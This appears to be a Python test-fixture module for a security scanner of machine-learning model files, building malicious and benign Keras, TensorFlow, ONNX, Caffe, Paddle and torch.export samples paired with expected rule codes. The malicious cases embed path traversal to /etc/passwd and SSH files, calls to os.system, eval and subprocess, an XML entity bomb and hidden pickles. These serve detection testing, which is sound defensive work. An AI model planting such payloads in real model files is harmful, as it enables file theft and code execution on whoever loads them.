    yield "initializer.json", T.tfjs(modelInitializer={"node": [{"name": "r", "op": "ReadFile"}]}).replace(b'"modelTopology"', b'"modelInitializer": {"node": [{"name": "r", "op": "ReadFile"}]}, "modelTopology"'), ["MDL161"], "TF.js: in the initializer"


def good_tensorflow():
    for name, path in (("vocab", "/home/me/data/vocab.txt"), ("gcs", "/cns/el-d/home/x/vocabulary.txt"), ("mac", "/Users/me/project/labels.txt"), ("tmp", "/tmp/tmpab12/vocab"), ("rel", "vocab.txt"), ("assets", "assets/tokens.txt")):
        yield ("table_%s.pb" % name, T.graph(*T.PLAIN, T.node("t", "HashTableV2"), T.const("p", path), T.node("i", "InitializeTableFromTextFileV2", ["t", "p"])), [], "a table from %s of whoever trained it" % path)
    yield "graph.pbtxt", (FIXTURES / "tensorflow/graph.pbtxt").read_bytes(), [], "TF 1 with the author's paths"
    saver = FIXTURES / "tensorflow/saver"
    yield "saver", {p.name: p.read_bytes() for p in saver.iterdir()}, [], "TF 1's Saver"
    yield "warmup", {"saved_model.pb": T.model(), "assets.extra/tf_serving_warmup_requests": T.record(b"\x0a\x00" * 20)}, [], "requests that warm a server up"
    yield "hub", {"saved_model.pb": T.model(), "tfhub_module.pb": b"\x08\x03", "fingerprint.pb": b"\x08\x01", "assets/vocab.txt": b"eval\nos.system\n/etc/passwd\n"}, [], "a module of TF Hub"
    yield "readme", {"saved_model.pb": T.model(), "README.md": b"# Model\nReads nothing but its assets; see the paper.\n", "label_map.pbtxt": b'item { id: 1 name: "cat" }\nitem { id: 2 name: "ReadFile" }\n'}, [], "a label map"
    yield "pipeline.config", b'model { ssd { num_classes: 90 } }\ntrain_config { fine_tune_checkpoint: "/home/me/ckpt" }\n', [], "TF's object detection"
    yield "many_metas.pb", T.saved(T.meta(T.graph(*T.PLAIN)), T.meta(T.graph(*T.PLAIN))), [], "two graphs"
    yield "names.pb", T.graph(*T.PLAIN, T.node("ReadFile", "Identity", ["x"]), T.node("os/system", "NoOp"), T.const("msg", "cannot open /etc/passwd")), [], "names that look guilty"
    yield "labels.tflite", T.lite() + zipped(("labels.txt", b"cat\ndog\neval\n")), [], "labels in the archive behind the model"
    yield "detection.tflite", T.lite([T.custom("TFLite_Detection_PostProcess")]), [], "the operator of object detection"
    yield "checkpoint", b'model_checkpoint_path: "model.ckpt-5"\nall_model_checkpoint_paths: "model.ckpt-4"\nall_model_checkpoint_paths: "model.ckpt-5"\n', [], "a list of checkpoints"
    yield "checkpoint", b'model_checkpoint_path: "C:\\\\Users\\\\me\\\\model.ckpt-5"\r\nall_model_checkpoint_timestamps: 1589380204.22\r\nlast_preserved_timestamp: 1.5e9\r\n', [], "from Windows, with times"
    yield "old_checkpoint", {"checkpoint": b'model_checkpoint_path: "/home/me/run/model.ckpt-5"\nall_model_checkpoint_paths: "/home/me/run/model.ckpt-5"\n'}, [], "with the author's full path"
    yield "examples.tfrecord", b"".join(T.record(T.field(1, T.entry(1, "text", T.field(1, T.field(1, "import os; os.system('id')"))))) for _ in range(3)), [], "texts about code"
    yield "tfjs", {"model.json": T.tfjs(paths=["group1-shard1of2.bin", "group1-shard2of2.bin"]), "group1-shard1of2.bin": bytes(16), "group1-shard2of2.bin": bytes(16)}, [], "TF.js in two parts"
    yield "parse.pb", T.graph(*T.PLAIN, n("ParseExampleV2", "x"), n("DecodeJpeg", "x"), n("DecodeRaw", "x"), n("StringToHashBucketFast", "x"), n("RegexReplace", "x"), n("AsString", "x"), n("MapDataset", "x"), n("TensorSliceDataset", "x")), [], "operators of serving"


# ---- ONNX and kin ----

def bad_onnx():
    esc = ("%2e%2e/%2e%2e/etc/passwd", ["MDL104", "MDL105"]), ("..\\..\\etc\\passwd", ["MDL104", "MDL105"]), ("a/..", ["MDL104", "MDL105"]), ("./../x", ["MDL104"]), ("w.bin/../../x", ["MDL104"]), ("/w.bin", ["MDL104"]), ("....//....//x", []), ("\u2025/\uff0e\uff0e/x", []), (".ssh/../../id", ["MDL104"]), ("c:w.bin", ["MDL104", "MDL105"]), ("CON", ["MDL104", "MDL105"]), ("w.bin:stream", ["MDL105", "MDL104"]), ("w.bin ", ["MDL105", "MDL378"]), ("//host/w", ["MDL104"]), ("${HOME}/x", ["MDL105", "MDL104"]), (".", ["MDL195"]), ("/", ["MDL104"])
    for i, (path, rules) in enumerate(esc):
        yield "location_%d.onnx" % i, {"m.onnx": O.beside(path)}, rules, "external data at " + path
    ext = O.external(location="../../secret")
    yield "graphs.onnx", O.model(O.graph(O.node("X", ("x",), ("y",), "", O.attribute("branches", graphs=[O.graph(O.RELU), O.graph(O.RELU, tensors=[ext])])))), ["MDL104"], "in a list of graphs"
    yield "sparse_attr.onnx", O.model(O.graph(O.node("Constant", (), ("y",), "", O.attribute("sparse_value", sparse=O.message((1, O.tensor("v", (1,), 1, b"\0\0\0\0")), (2, ext), (3, 4)))))), ["MDL104"], "the indices of a sparse attribute"
    yield "initialization.onnx", O.model(O.graph(O.RELU), rest=O.field(20, O.message((1, O.graph(O.RELU, tensors=[ext]))))), ["MDL104"], "in the graph that starts training"
    yield "function_attr.onnx", O.model(O.graph(O.RELU), "d", rest=O.field(25, O.function("d", "F", O.RELU) + O.field(11, O.attribute("a", t=ext)))), ["MDL104"], "a default of a function's attribute"
    yield "type_field.onnx", O.model(O.graph(O.node("Constant", (), ("y",), "", O.field(1, "value") + O.field(5, ext) + O.field(20, 1)))), ["MDL104"], "an attribute whose type says otherwise"
    yield "escape_case.onnx", O.model(O.graph(O.RELU, tensors=[O.tensor(external=[("LOCATION", "/etc/passwd"), ("location", "w")], location=1)])), ["MDL195", "MDL104"], "a key in capitals"
    yield "alias_domain.onnx", O.model(O.graph(O.node("Relu", domain="AI.ONNX")), "AI.ONNX"), ["MDL191"], "the standard's domain in capitals"
    yield "unimported.onnx", O.model(O.graph(O.node("Evil", domain="evil.ops"))), ["MDL191"], "a domain that is not imported"
    yield "preview.onnx", O.model(O.graph(O.node("Pwn", domain="ai.onnx.preview.training")), "ai.onnx.preview.training"), ["MDL191"], "no such operator there"
    yield "tensorrt.onnx", O.model(O.graph(O.node("TRT_PluginV2", domain="trt.plugins")), "trt.plugins"), ["MDL191"], "a plug-in"
    yield "pyop_attr.onnx", O.model(O.graph(O.node("PyOp", ("x",), ("y",), "ai.onnx.contrib", O.attribute("module", s="os"))), "ai.onnx.contrib"), ["MDL190"], "names its module"
    yield "huge.onnx", O.model(O.graph(O.RELU, tensors=[O.tensor(dims=(2**31, 2**31, 2**31), raw=b"")])), ["MDL197"], "a shape beyond 64 bits"
    yield "zero_huge.onnx", O.model(O.graph(O.RELU, tensors=[O.tensor(dims=(0, 2**62, 2**62), raw=b"1234")])), ["MDL197"], "no number, yet four bytes"
    yield "elf_int8.onnx", O.model(O.graph(O.RELU, tensors=[O.tensor("e", (len(O.ELF),), 3, O.ELF)])), [], "a program as numbers"
    yield "overlong.onnx", O.model(O.graph(O.RELU)) + b"\xf8\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\x01\x00", BROKEN, "a number of twelve bytes"
    yield "field_zero.onnx", O.model(O.graph(O.RELU)) + b"\x00\x01", BROKEN + ["MDL202"], "a field of number nought"
    yield "end_group.onnx", O.model(O.graph(O.RELU)) + b"\x0c", BROKEN, "the end of a group that never began"
    yield "as.gz", gzip.compress(O.beside("/etc/passwd")), ["MDL104"], "compressed"
    yield "as.zip", zipped(("a/m.onnx", O.beside("/etc/passwd"))), ["MDL104"], "in an archive"
    yield "as.bin", O.beside("/etc/passwd"), ["MDL104"], "by another name"
    yield "no_extension", O.model(O.graph(O.node("PyOp", domain="ai.onnx.contrib")), "ai.onnx.contrib"), ["MDL190"], "without an ending"
    g = O.graph(O.RELU, tensors=[ext])
    yield "graph_first.onnx", O.field(7, g) + O.field(1, 8) + O.field(8, O.message((1, ""), (2, 17))), ["MDL104"], "fields in another order"
    yield "unknown_first.onnx", O.field(500, b"x" * 40) + O.field(1, 8) + O.field(7, g) + O.field(8, O.message((1, ""), (2, 17))), ["MDL104", "MDL202"], "a field of no version first"
    yield "data_pickle", {"m.onnx": O.model(O.graph(O.RELU, tensors=[O.tensor(dims=(len(PICKLE) + 8,), kind=2, external=[("location", "d/w.data"), ("offset", "0")], location=1)])), "d/w.data": bytes(8) + PICKLE}, [], "a pickle within the data"
    yield "text.onnxtxt", b'ir_version: 8 graph { initializer { name: "w" data_location: EXTERNAL external_data { key: "location" value: "/etc/passwd" } } }', ["MDL104", "MDL060", "MDL065"], "the text form"
    yield "json.onnx.json", of_json({"irVersion": "8", "graph": {"node": [{"opType": "PyOp", "domain": "ai.onnx.contrib"}], "initializer": [{"name": "w", "dataLocation": "EXTERNAL", "externalData": [{"key": "location", "value": "/etc/passwd"}]}]}}), [], "the form in JSON"
    yield "custom.mlmodel", O.core_ml((500, O.message((1, O.layer((500, O.message((10, "os.system"))))))), version=9), ["MDL191"], "Core ML: a layer of the app's"
    yield "package", {"m.mlpackage/Manifest.json": of_json({"fileFormatVersion": "1.0.0", "rootModelIdentifier": "A", "itemInfoEntries": {"A": {"path": "/etc/passwd"}}})}, ["MDL104"], "Core ML: an item elsewhere"
    yield "python.prototxt", O.PROTOTXT + b"layers { name: 'p' type: PYTHON python_param { module: 'os' layer: 'system' param_str: \"id\" } }\n", ["MDL190"], "Caffe of old"
    yield "image_data.prototxt", O.PROTOTXT + b'layer { name: "d" type: "ImageData" image_data_param { source: "/proc/self/maps" root_folder: "/" } }\n', ["MDL104"], "Caffe: a list of images"
    yield "window.prototxt", O.PROTOTXT + b'layer { name: "d" type: "Data" data_param { source: "../../x" backend: LMDB } transform_param { mean_file: "/etc/shadow" } }\n', ["MDL104"], "Caffe: a mean"
    yield "solver.prototxt", b'net: "/etc/passwd"\nbase_lr: 0.1\nsnapshot_prefix: "/root/.ssh/x"\nmax_iter: 5\n', ["MDL104"], "Caffe: a solver writes its state"
    yield "run.pdmodel", O.paddle(O.op("print"), O.op("load_combine", ("file_path", "/etc/passwd"))), ["MDL104"], "Paddle: weights elsewhere"
    yield "pyfunc.pdmodel", O.paddle(O.op("py_func ")), ["MDL190", "MDL191"], "Paddle: a blank behind the name"
    yield "ir.xml", O.NET % b'<layer id="2" name="e" type="Const" version="opset1"><data element_type="u8" shape="2" offset="-1" size="8"/></layer>\n', ["MDL195"], "OpenVINO: a place before the file"
    yield "ir_bomb.xml", b'<?xml version="1.0"?><!DOCTYPE net [<!ENTITY a "x"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;">]>' + (O.NET % b"").split(b"?>", 1)[1], ["MDL060", "MDL263", "MDL262", "ENG002"], "OpenVINO: entities"
    yield "mx-symbol.json", of_json({"nodes": [{"op": "Custom", "name": "c", "attr": {"op_type": "x"}, "inputs": []}], "arg_nodes": [], "heads": [[0, 0]]}), ["MDL190"], "MXNet of old"
    for i, target in enumerate(("builtins.eval", "torch._C._jit_load", "subprocess.run", "torch.ops.load_library", "posix.system", "torch.utils.cpp_extension.load", "operator.call")):
        yield "target_%d.pt2" % i, K.export(target), ["MDL100", "MDL101", "MDL121", "MDL122"], "torch.export: a node that calls " + target
    yield "aoti.pt2", zipped(("m/archive_format", b"pt2"), ("m/archive_version", b"0"), ("m/data/aotinductor/model/x.so", O.ELF)), [], "torch.export: a compiled library"
    yield "constants.pt2", K.export(extra={"m/data/constants/custom_obj_0": PICKLE}), RAN, "torch.export: an object"
    yield "sample.pt2", K.export(extra={"m/data/sample_inputs/m.pt": H.zip_of_pickle()}), RAN, "torch.export: inputs"


def good_onnx():
    yield "dots", {"m.onnx": O.beside("./w.bin", offset="0", length="8"), "w.bin": O.FLOATS}, [], "the folder itself before the name"
    yield "hidden_ok.onnx", {"m.onnx": O.beside("model.onnx_data", offset="0", length="8"), "model.onnx_data": O.FLOATS}, [], "as exporters name it"
    yield "torch_names.onnx", O.model(O.graph(O.node("Relu", ("/model/layers.0/mlp/../gate",), ("onnx::MatMul_12",)))), [], "names of values from torch"
    yield "local.onnx", O.model(O.graph(O.node("aten_relu", domain="pkg.onnxscript.torch_lib")), "pkg.onnxscript.torch_lib", rest=O.field(25, O.function("pkg.onnxscript.torch_lib", "aten_relu", O.RELU))), [], "functions of the exporter"
    yield "contrib.onnx", O.model(O.graph(*[O.node(x, domain="com.microsoft") for x in ("FusedMatMul", "Attention", "SkipLayerNormalization", "GroupQueryAttention", "MatMulNBits", "RotaryEmbedding", "QLinearAdd", "BiasGelu", "MoE")]), "com.microsoft"), [], "operators of ONNX Runtime"
    yield "yolo.onnx", O.model(O.graph(O.RELU), rest=b"".join(O.field(14, O.entry(k, v)) for k, v in (("names", "{0: 'person', 1: '__import__'}"), ("stride", "32"), ("author", "Ultralytics"), ("docs", "https://docs.ultralytics.com"), ("args", "{'batch': 1}")))), [], "metadata of YOLO"
    yield "doc.onnx", O.model(O.graph(O.message((1, "x"), (2, "y"), (4, "Relu"), (6, "File \"/home/me/train.py\", line 3, in forward\n os.system")))), [], "a trace in a node's prose"
    yield "vocab.onnx", O.model(O.graph(O.node("LabelEncoder", ("x",), ("y",), "ai.onnx.ml", O.attribute("keys_strings", strings=["/etc/passwd", "c:\\x", "eval(1)"])), ), "ai.onnx.ml"), [], "labels"
    yield "zip.zip", zipped(("m/model.onnx", O.model(O.graph(O.RELU)))), [], "in an archive"
    yield "solver.prototxt", b'net: "train_val.prototxt"\nbase_lr: 0.01\nmax_iter: 10\nsnapshot_prefix: "snap"\nsolver_mode: GPU\n', [], "Caffe: a solver"
    yield "stage.prototxt", O.PROTOTXT + b'layer { name: "label" type: "Softmax" bottom: "python_layer" top: "Python" }\n', [], "Caffe: a name of a layer"
    yield "small.pt2", K.export("torch.ops.aten.convolution.default"), [], "torch.export"


# ---- a second round: what the first one left to think of ----

def again_keras():
    for name, module, fn in (("deserialize", "keras.src.losses", "deserialize_keras_object"), ("from_config", "keras.src.metrics", "deserialize_keras_object"), ("home", "keras.src.backend.config", "keras_home"),
                             ("floatx", "keras.backend", "set_floatx"), ("session", "tensorflow.python.keras.backend", "get_session"), ("export", "keras.src.activations", "keras_export"), ("private", "keras.src.ops.core", "_import"),
                             ("weights", "keras.src.legacy.backend", "load_weights"), ("rng", "keras.src.random", "os")):
        yield "function_%s.keras" % name, K.archive(K.sequential(K.obj("Lambda", {"function": K.function(module, fn)}))), ["MDL116", "MDL101"], "what a module of losses and maths has imported"
    yield "registered_function.keras", K.archive(K.sequential(K.dense(activation=K.function("keras.activations", "relu", "evil>relu")))), ["MDL114"], "a function that is registered by another package counts first"
    yield "lambda_blank.keras", K.archive(K.sequential(K.obj("Lambda ", {"function": {"class_name": "__lambda__", "config": {"code": CODE}}}))), LAMBDA + ["MDL114"], "a blank behind the class"
    yield "lambda_case.keras", K.archive(K.sequential(K.obj("lambda", {"function": {"class_name": "__lambda__", "config": {"code": CODE}}}))), LAMBDA + ["MDL116"], "small letters"
    yield "yaml_alias.yaml", ("backend: tensorflow\nx: &f\n- \"%s\"\n- null\n- null\nclass_name: Sequential\nconfig:\n- class_name: Lambda\n  config: {function: *f, function_type: lambda}\nkeras_version: 2.2.4\n" % CODE.replace("\n", "")).encode(), LAMBDA, "YAML: the code by an alias"
    yield "tfjs_training.json", of_json({"format": "layers-model", "modelTopology": {"model_config": K.legacy("Sequential", {"layers": []}), "training_config": {"loss": K.function("os", "system")}}, "weightsManifest": []}), ["MDL100"], "TF.js: in training_config"
    yield "lambda.h5.gz", gzip.compress(H.File().finish(H.string(b"model_config", H.lambda_config()))), LAMBDA, "HDF5, compressed"
    yield "sequence.json", of_json([K.legacy("Dense"), K.old_lambda(CODE)]), LAMBDA, "a list of layers"
    yield "vocabulary_list.keras", K.archive(K.sequential(K.obj("StringLookup", {"vocabulary": ["/etc/passwd"], "vocabulary_file": "/etc/shadow"}))), ["MDL104"], "a file under another key"
    yield "module_trusted.keras", K.archive(K.sequential(K.obj("Adam", {}, "torch.optim\n.Adam"))), ["MDL101"], "a line break in a module"


def again_tensorflow():
    yield "checkpoint", b"model_checkpoint_path: '../../x'\n", ["MDL104", *BROKEN], "single quotes"
    yield "checkpoint", b'model_checkpoint_path: "..\\x2f..\\057x"\n', ["MDL104", "MDL105", *BROKEN], "escapes"
    yield "checkpoint", b'model_checkpoint_path: "a" "/../../x"\n', ["MDL104", *BROKEN], "two texts that are one"
    yield "checkpoint", b'model_checkpoint_path: "a" model_checkpoint_path: "/etc/x"\n', ["MDL104", *BROKEN], "two fields on a line"
    yield "checkpoint", b'# list\nmodel_checkpoint_path: "../x"\n', ["MDL104", *BROKEN], "behind a comment"
    yield "graph.pb.gz", gzip.compress(T.graph(*T.PLAIN, n("WriteFile"))), ["MDL160"], "compressed"
    for name, path in (("dots", "/home/u/vocab.txt/../../../etc/passwd"), ("hidden", "/home/u/.config/vocab.txt"), ("nul", "/home/u/vocab.txt\0"), ("var", "/var/lib/secret/vocab.txt"), ("mac", "/private/etc/vocab.txt"), ("http", "https://192.0.2.1/vocab.txt"), ("smb", "//192.0.2.1/s/vocab.txt"), ("pipe", "/run/user/vocab.txt"), ("bucket", "gs://bucket/vocab.txt")):
        yield ("vocabulary_%s.pb" % name, T.graph(*T.PLAIN, T.node("t", "HashTableV2"), T.const("p", path), T.node("i", "InitializeTableFromTextFileV2", ["t", "p"])), ["MDL104", "MDL105", "MDL179"], "a vocabulary at " + path)
    yield ("save_vocabulary.pb", T.graph(*T.PLAIN, T.const("p", "/home/u/vocab.txt"), T.node("c", "CacheDatasetV2", ["x", "p", "x"])), ["MDL104"], "a vocabulary that is written")
    yield "log_up.pb", T.graph(*T.PLAIN, T.const("d", "../../x"), T.node("s", "SummaryWriter"), T.node("c", "CreateSummaryFileWriter", ["s", "d"])), ["MDL104"], "a log above the model"
    yield "log_home.pb", T.graph(*T.PLAIN, T.const("d", "~/.config/autostart"), T.node("s", "SummaryWriter"), T.node("c", "CreateSummaryDbWriter", ["s", "d"])), ["MDL104"], "a log at home"
    yield "label_map.pbtxt", b'item { id: 1 name: "cat" }\nnode { name: "x" op: "ReadFile" }\n', ["MDL161", "MDL070", *BROKEN], "a graph behind a list of classes"
    yield "label_escape.pbtxt", b'item { id: 1 }\n\n[n] { }\nno\\144e { }\n', ["MDL070", *BROKEN], "a list of classes that is none"


def again_others():
    yield "training_python.onnx", O.model(O.graph(O.RELU), rest=O.field(20, O.message((2, O.graph(O.node("PyOp", domain="ai.onnx.contrib")))))), ["MDL190"], "Python in the graph of training"
    yield "up.mlpackage", {"m.mlpackage/Manifest.json": of_json({"fileFormatVersion": "1.0.0", "rootModelIdentifier": "A", "itemInfoEntries": {"A": {"path": "com.apple.CoreML/../../../x"}}})}, ["MDL104"], "Core ML: an item upwards"
    yield "m.pdparams", PICKLE, RAN, "what paddle.save() writes is a pickle"
    yield "net_param.prototxt", b'base_lr: 0.1\nmax_iter: 5\nsolver_mode: CPU\nnet_param { layer { name: "p" type: "Python" python_param { module: "os" layer: "system" } } }\n', ["MDL190"], "Caffe: a network within a solver"
    yield "weights.prototxt", b'net: "n.prototxt"\nbase_lr: 0.1\nmax_iter: 5\nweights: "/etc/passwd"\n', ["MDL104"], "Caffe: a solver's weights"
    yield "solver_quote.prototxt", b"net: '/etc/passwd'\nbase_lr: 0.1\nmax_iter: 5\n", ["MDL104", "MDL070"], "Caffe: single quotes"
    yield "second.pt2", K.export(extra={"m/models/other.json": of_json({"graph_module": {"graph": {"inputs": [], "outputs": [], "nodes": [{"target": "os.system", "inputs": [], "outputs": [], "metadata": {}}], "tensor_values": {}}}, "opset_version": {"aten": 10}, "range_constraints": {}, "torch_version": "2.15.0", "schema_version": {"major": 8, "minor": 8}})}), ["MDL100", "MDL101", "MDL121"], "torch.export: a second program"
    yield "extra.pt2", K.export(extra={"m/extra/sitecustomize.py": b"import os\nos.system('id')\n"}), [], "torch.export: Python beside"
    yield "weights_config.pt2", K.export(extra={"m/data/weights/model_weights_config.json": of_json({"config": {"w": {"path_name": "../../../../etc/passwd", "is_param": True, "use_pickle": False}}})}), ["MDL104"], "torch.export: weights elsewhere"
    yield "model.onnxjson", of_json({"irVersion": "8", "opsetImport": [{"version": "17"}], "graph": {"node": []}}), ["MDL060"], "ONNX as JSON is not read"
    yield "model.textproto", b'ir_version: 8\ngraph {\n  name: "g"\n}\nopset_import { version: 17 }\n', ["MDL060"], "ONNX as text is not read"
    yield "escaped.textproto", b'producer_name: "x"\ngraph { initializer { data_location: EXTERNAL external_data { key: "location" value: "/etc/passwd" } } }\nir_version: 8\n', ["MDL060"], "the version last"
    yield "folder.onnx", {"m.onnx": O.beside("w/")}, ["MDL195"], "external data that is a folder"


def again_good():
    yield "text_ops.pb", T.graph(*T.PLAIN, *[n(x, "x") for x in ("SentencepieceOp", "SentencepieceTokenizeOp", "RaggedTensorToSparse", "NormalizeUTF8WithOffsetsMap", "UnicodeTranscode", "LookupTableFindV2", "TensorListReserve", "SimpleMLInferenceOpWithHandle", "FakeQuantWithMinMaxVars", "NonMaxSuppressionV5", "CropAndResize")]), [], "operators of text, forests and detection"
    yield "log.pb", T.graph(*T.PLAIN, T.const("d", "/home/me/runs/1"), T.node("s", "SummaryWriter"), T.node("c", "CreateSummaryFileWriter", ["s", "d"])), [], "a log at the author's"
    yield "restore.pb", T.graph(*T.PLAIN, T.const("p", "/home/me/bert/bert_model.ckpt"), T.const("t", "w"), T.const("s", ""), T.node("r", "RestoreV2", ["p", "t", "s"])), [], "where fine-tuning began"
    yield "colab.pb", T.graph(*T.PLAIN, T.node("t", "HashTableV2"), T.const("p", "/content/drive/My Drive/labels.txt"), T.node("i", "InitializeTableFromTextFileV2", ["t", "p"])), [], "Colab"
    yield "folders.pb", T.graph(*T.PLAIN, T.node("t", "HashTableV2"), T.const("p", "/var/folders/zz/T/tmp12/vocab.txt"), T.node("i", "InitializeTableFromTextFileV2", ["t", "p"])), [], "a Mac's folder for what passes"
    yield "drive.pb", T.graph(*T.PLAIN, T.node("t", "HashTableV2"), T.const("p", "C:\\Users\\me\\vocab.txt"), T.node("i", "InitializeTableFromTextFileV2", ["t", "p"])), [], "Windows"
    yield "labelmap_voc.prototxt", b'item {\n  name: "none_of_the_above"\n  label: 0\n  display_name: "background"\n}\nitem {\n  name: "aeroplane"\n  label: 1\n}\n', [], "classes of SSD"
    yield "label_map.pbtxt", b"# classes\nitem {\n  id: 1\n  name: 'person'\n}\n", [], "classes behind a comment"
    yield "cakes.pbtxt", b'item {\n  name: "/m/01"\n  id: 1\n  display_name: "Layer cake"\n}\nitem {\n  name: "lymph node"\n  id: 2\n}\n', [], "classes of Open Images"
    yield "solver.prototxt", b'# reduce the rate\nnet: "models/bvlc_alexnet/train_val.prototxt"\ntest_iter: 1000\ntest_interval: 1000\nbase_lr: 0.01\nlr_policy: "step"\ngamma: 0.1\nstepsize: 100000\ndisplay: 20\nmax_iter: 450000\nmomentum: 0.9\nweight_decay: 0.0005\nsnapshot: 10000\nsnapshot_prefix: "models/bvlc_alexnet/caffe_alexnet_train"\nsolver_mode: GPU\n', [], "AlexNet's solver"
    yield "config.yaml", b"net: resnet50\nbase_lr: 0.1\nmax_iter: 90000\nsnapshot_prefix: out\n", [], "a configuration with a solver's words"
    yield "genai_config.json", of_json({"model": {"decoder": {"filename": "model.onnx", "session_options": {"provider_options": []}}, "vocab_size": 32000}, "search": {"max_length": 2048}}), [], "ONNX Runtime's generation"
    yield "notes.md", b"The ONNX file has ir_version: 8 and a graph: { nodes }.\n", [], "prose on a graph"
    yield "losses.keras", K.archive(K.sequential(K.dense(activation=K.function("keras.ops", "relu6"), kernel_regularizer=K.obj("L2", {"l2": 0.01}, "keras.regularizers")), compile_config={"loss": K.function("keras.losses", "binary_crossentropy"), "metrics": [K.function("keras.metrics", "categorical_accuracy")]})), [], "functions of maths and losses"


# ---- a third round ----

def third():
    for function, module in (("eval", "builtins"), ("exec", None), ("system", "os"), ("os.system", None), ("my_code.run", None)):
        yield "old_function_%s.json" % function, of_json(K.legacy("Sequential", [K.legacy("Lambda", {"function": function, "function_type": "function", "module": module})])), ["MDL100", "MDL101", "MDL114"], "a function by its name"
    for name, before in (("bom", b"\xef\xbb\xbf"), ("blank", b"\n\n \t"), ("nul", b"\0\0")):
        yield "config_%s.h5" % name, H.File().finish(H.string(b"model_config", before + H.lambda_config())), LAMBDA + BROKEN, "a configuration behind other bytes"
    yield "config_latin.h5", H.File().finish(H.string(b"model_config", H.lambda_config().replace(b'"l"', b'"\xe9"'))), LAMBDA + BROKEN, "no UTF-8"
    yield "weights_deflated.keras", zipped(META, ("config.json", of_json(CLEAN)), ("model.weights.h5", H.external_storage(b"/etc/passwd")), compression=zipfile.ZIP_DEFLATED), ["MDL104"], "compressed weights with data elsewhere"
    yield "weights_names.keras", zipped(META, ("config.json", of_json(CLEAN)), ("weights.h5", H.virtual(b"/etc/passwd"))), ["MDL104"], "weights by another name"
    yield "encrypted.keras", zipped(META, ("config.json", of_json(EVIL))).replace(b"PK\x01\x02\x14\x03\x14\0\0\0", b"PK\x01\x02\x14\x03\x14\0\1\0"), [], "said to be encrypted"
    yield "same_name.pb", T.graph(*T.PLAIN, T.node("t", "HashTableV2"), T.const("p", "/etc/passwd"), T.const("p", "vocab.txt"), T.node("i", "InitializeTableFromTextFileV2", ["t", "p"])), ["MDL104"], "two nodes of one name"
    yield "joined.pb", T.graph(*T.PLAIN, T.node("t", "HashTableV2"), T.const("a", "/et"), T.const("b", "c/vocab.txt"), T.node("j", "StringJoin", ["a", "b"]), T.node("i", "InitializeTableFromTextFileV2", ["t", "j"])), ["MDL104", "MDL179"], "a vocabulary put together"
    yield "graph.txt", b'node{name:"a"op:"ReadFile"}', ["MDL161"], "text form without a blank"
    yield "graph_spaced.txt", b'node {\n name : "a"\n op\n:\n"ReadFile" }', ["MDL161"], "text form with many"
    for name, path in (("absolute", "/w.bin"), ("host", "//cdn.example.com/w.bin"), ("data", "data:application/octet-stream;base64,AAAA"), ("back", "a\\..\\..\\w.bin"), ("blob", "blob:https://x/1"), ("file", "file:///etc/passwd")):
        yield "tfjs_%s.json" % name, T.tfjs(paths=[path]), ["MDL104", "MDL105"], "TF.js: weights at " + path
    yield "mlpackage", {"m.mlpackage/Manifest.json": of_json({"fileFormatVersion": "1.0.0", "rootModelIdentifier": "A", "itemInfoEntries": {"A": {"path": "com.apple.CoreML/model.mlmodel"}}}), "m.mlpackage/Data/com.apple.CoreML/model.mlmodel": O.core_ml((555, O.message((10, "Evil"))))}, ["MDL191"], "Core ML: a custom model in a package"
    yield "tfsm", {"m.keras": K.archive(K.sequential(K.obj("TFSMLayer", {"filepath": "sub"}))), "sub/saved_model.pb": T.model(n("WriteFile"))}, ["MDL120", "MDL160"], "a layer that loads the folder beside it"
    yield "meta_second.meta", T.meta(T.graph(*T.PLAIN)) + T.field(2, T.graph(n("PyFunc"))), ["MDL163"], "a second graph in a MetaGraph"
    yield "keras_metadata.pb", T.field(1, T.field(2, 1) + T.field(3, "root") + T.field(4, "_tf_keras_model") + T.field(5, json.dumps({"class_name": "Functional", "config": {"layers": [K.legacy("TFOpLambda", {"function": "io.write_file"})]}}))), ["MDL118"], "an operator in the metadata of Keras"


# ---- written by the libraries themselves: tests/fixtures/make_attack_a.py ----

LEAVES = ["MDL104"]
REASONS = {
    "in_time.keras": LAMBDA, "nested.keras": LAMBDA, "nested.h5": LAMBDA, "lambda.h5": LAMBDA,
    "compiled_lambda.keras": LAMBDA, "activation.keras": LAMBDA, "compiled_own.keras": ["MDL114"],
    "registered.h5": ["MDL114"], "training_os.h5": ["MDL100"], "training_lambda.h5": LAMBDA,
    "config_bytes.h5": LAMBDA, "config_array.h5": LAMBDA, "config_in_parts.h5": LAMBDA,
    "config_dense.h5": LAMBDA, "config_utf16.h5": LAMBDA + BROKEN, "external_link.h5": LEAVES,
    "virtual.h5": LEAVES, "storage.weights.h5": LEAVES, "storage_up.h5": LEAVES,
    "dense_attributes.h5": RAN, "vlen_objects.h5": RAN, "vlen_text.h5": RAN, "compound.h5": RAN,
    "committed_type.h5": RAN, "read": ["MDL161"], "in_loop": ["MDL161"], "in_branch": ["MDL160"],
    "in_gradient": ["MDL160"], "prints": ["MDL160"], "python": ["MDL163"], "numpy": ["MDL163"],
    "lines": ["MDL162"], "cache": LEAVES, "lists": ["MDL161"], "maps": ["MDL161"],
    "restores": LEAVES, "words": LEAVES, "merges": LEAVES,
}


def written(kind):
    """(name, bytes or {path: bytes}) of what is in that folder of the archive."""
    cases = {}
    with zipfile.ZipFile(FIXTURES / "attack_a.zip") as z:
        for member in z.namelist():
            folder, name = member.split("/", 1)
            if folder == kind:
                cases[name] = z.read(member)
    folders = {}
    for name, data in cases.items():
        if name.startswith("shards"):
            folders.setdefault("shards", {})[name] = data
        elif "/" in name:
            folders.setdefault(name.split("/")[0], {})[name.split("/", 1)[1]] = data
        else:
            yield name, data
    yield from folders.items()


def bad_written():
    for name, content in written("bad"):
        yield name, content, REASONS[name], "written by the library"


def good_written():
    for name, content in written("good"):
        yield name, content, [], "written by the library"


def bad():
    for cases in (bad_keras, bad_hdf5, bad_tensorflow, bad_onnx, again_keras, again_tensorflow, again_others, third,
                  bad_written):
        yield from cases()


def good():
    for cases in (good_keras, good_hdf5, good_tensorflow, good_onnx, again_good, good_written):
        yield from cases()
